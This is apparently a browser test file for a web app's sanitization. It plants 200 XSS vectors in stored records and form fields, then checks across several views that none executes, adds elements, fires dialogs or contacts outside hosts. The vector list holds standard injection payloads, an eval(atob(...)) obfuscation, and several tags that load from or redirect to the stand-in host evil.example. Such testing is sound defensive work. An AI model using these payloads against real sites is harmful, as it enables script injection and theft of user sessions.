// Scripts and tags in the data: they are shown, and nothing else.
import { expect, isOwn, record, title } from "../helpers.js";
import {
  assessments,
  check,
  counted,
  listed,
  outside,
  putBoth,
  records,
  seededId,
  test,
  times,
  turn,
  visit,
  wipe,
} from "./lab.js";

const CALL = "window.ran=1";
const VECTORS = [
  ...[
    `<script>${CALL}</script>`,
    `<img src=x onerror=${CALL}>`,
    `<svg onload=${CALL}>`,
    `<svg/onload=${CALL}>`,
    `<body onload=${CALL}>`,
  ],
  ...[
    `<iframe srcdoc="<script>parent.ran=1</script>">`,
    `<iframe src="javascript:parent.ran=1">`,
    `<object data="javascript:${CALL}">`,
  ],
  ...[
    `<embed src="javascript:${CALL}">`,
    `<a href="javascript:${CALL}">x</a>`,
    `<details open ontoggle=${CALL}>`,
    `<video src=x onerror=${CALL}>`,
  ],
  ...[
    `<audio src=x onerror=${CALL}>`,
    `<input autofocus onfocus=${CALL}>`,
    `<select autofocus onfocus=${CALL}>`,
    `<marquee onstart=${CALL}>`,
  ],
  ...[
    `<math href="javascript:${CALL}">x</math>`,
    `<base href="//evil.example/">`,
    `<link rel=stylesheet href="//evil.example/x.css">`,
  ],
  ...[
    `<meta http-equiv=refresh content="0;url=//evil.example">`,
    `<form action="//evil.example"><button>x`,
    `<style>*{display:none}</style>`,
  ],
  ...[
    `<svg><animate onbegin=${CALL} attributeName=x>`,
    `<svg><script>${CALL}</script></svg>`,
    `<template><script>${CALL}</script></template>`,
  ],
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
    `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
  ],
  ...[
    `\${${CALL}}`,
    `{{constructor.constructor('${CALL}')()}}`,
    `javascript:${CALL}`,
    `data:text/html,<script>${CALL}</script>`,
  ],
  ...[
    `&lt;script&gt;${CALL}&lt;/script&gt;`,
    `%3Cscript%3E${CALL}%3C/script%3E`,
    `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  ],
  ...[
    `<scr<script>ipt>${CALL}</script>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<img src=x onerror="eval(atob('d2luZG93LnJhbj0x'))">`,
  ],
  ...[
    `<x onclick=${CALL} id=main>x</x>`,
    `<portal src="javascript:${CALL}">`,
    `<xmp><img src=x onerror=${CALL}></xmp>`,
    `<plaintext><img src=x onerror=${CALL}>`,
  ],
];
const BEFORE = ["", `">`, `'>`, `</title></textarea></style></script>`, `]]>-->\u202e`];
const PAYLOADS = VECTORS.flatMap((vector) => BEFORE.map((before) => before + vector)).slice(0, 200);

test(
  ...check(24, "200 scripts and tags as note, as name, and as a raw record", "no script runs, no element comes of it"),
  async ({ context, baseURL }) => {
    expect(new Set(PAYLOADS).size).toBe(200);
    const beside = await outside(context);
    const dialogs = [];
    const foreign = [];
    context.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      dialog.dismiss();
    });
    context.on("request", (request) => isOwn(request.url(), baseURL) || foreign.push(request.url()));
    const bad = [];
    let seen = 0;
    const page = await context.newPage();
    await page.addInitScript(() => {
      window.violations = [];
      document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.blockedURI));
    });
    const names = (at) => Object.fromEntries([0, 1, 2].map((name) => [name, PAYLOADS[(3 * at + name) % 200]]));
    // As many assessments as payloads; in each, other payloads as names, in the older shape that every version reads.
    const nameList = (at) =>
      Array.from({ length: 12 }, (_, name) => [...(names(at)[name] ?? "")].slice(0, 40).join(""));
    const covered = { answers: "2.a.1.a.222222222222.-.-.-.90" };
    const values = assessments(
      200,
      (at) => PAYLOADS[at - 1],
      (at) => ({ ...covered, schema: 1, names: nameList(at) }),
    );
    for (let at = 0; at < 200; at++) values[`12h/assessment/raw${at.toString(36)}raw/1`] = PAYLOADS[at];
    await putBoth(beside, values);

    const judge = async (view, expected) => {
      const found = await page.evaluate((expected) => {
        const roots = [...document.body.children].filter((one) => one.tagName !== "SCRIPT" && one.id !== "halted");
        const all = roots.flatMap((root) => [root, ...root.querySelectorAll("*")]);
        const banned =
          "script, iframe, object, embed, base, link, meta, style, marquee, portal, math, template, xmp, video, audio, img, animate, x";
        const text = document.body.textContent;
        const values = [...document.querySelectorAll("input")].map(({ value }) => value);
        return {
          ran: window.ran,
          violations: window.violations,
          // A view may bring its own style along, which is part of the program.
          elements: all
            .filter((one) => one.matches(banned) && !(one.matches("style") && /^\.[\w.-]+ [^<]*$/.test(one.textContent))).map((one) => one.outerHTML.slice(0, 80)),
          handlers: all
            .filter((one) => [...one.attributes].some(({ name }) => name.startsWith("on")))
            .map((one) => one.outerHTML.slice(0, 80)),
          links: all
            .filter((one) => /^\s*(javascript|data):/i.test(one.getAttribute("href") ?? ""))
            .map((one) => one.outerHTML.slice(0, 80)),
          shown: expected.filter((payload) => text.includes(payload) || values.includes(payload)).length,
        };
      }, expected);
      const { shown, ...harm } = found;
      seen += shown;
      const clean = { ran: undefined, violations: [], elements: [], handlers: [], links: [] };
      if (JSON.stringify(harm) !== JSON.stringify(clean)) bad.push(`${view}: ${JSON.stringify(harm)}`);
      return shown;
    };
    await visit(page, "history");
    await expect.poll(async () => (await listed(page)).size).toBe(200);
    expect(await judge("history", PAYLOADS), "the payloads are on the screen").toBe(200);
    await turn(page, "data");
    await page.locator("details").evaluateAll((all) => all.forEach((one) => (one.open = true)));
    expect(await judge("data", PAYLOADS), "the raw records are on the screen").toBe(200);
    for (let at = 1; at <= 200; at++) {
      await turn(page, `focus/${seededId(at)}`);
      await judge(`focus/${seededId(at)}`, [PAYLOADS[at - 1]]);
    }
    // As the draft: in the fields for names, among the answers, in the answer, in what is tried out.
    const drafts = Math.ceil(200 / 12);
    for (let draft = 0; draft < drafts; draft++) {
      const own = Array.from({ length: 12 }, (_, at) => [...PAYLOADS[(12 * draft + at) % 200]].slice(0, 40).join(""));
      await wipe(beside).catch(() => {});
      await page.goto("about:blank");
      await wipe(beside);
      await putBoth(beside, record("draft", "current", { ...covered, schema: 1, names: own }));
      await visit(page, "assess/team");
      await expect(page.locator("#main input[type=text]")).toHaveCount(12);
      expect(await judge("assess/team", own), "the names are in their fields").toBe(12);
      for (const view of ["assess/check", "focus", "roles/visionary", "matrix", "search"]) {
        await turn(page, view);
        await judge(view, own);
      }
    }
    counted(
      `${bad.length + dialogs.length + foreign.length} scripts, dialogs, elements or requests; ${seen} times a payload was shown as text`,
    );
    expect(bad).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
  },
);
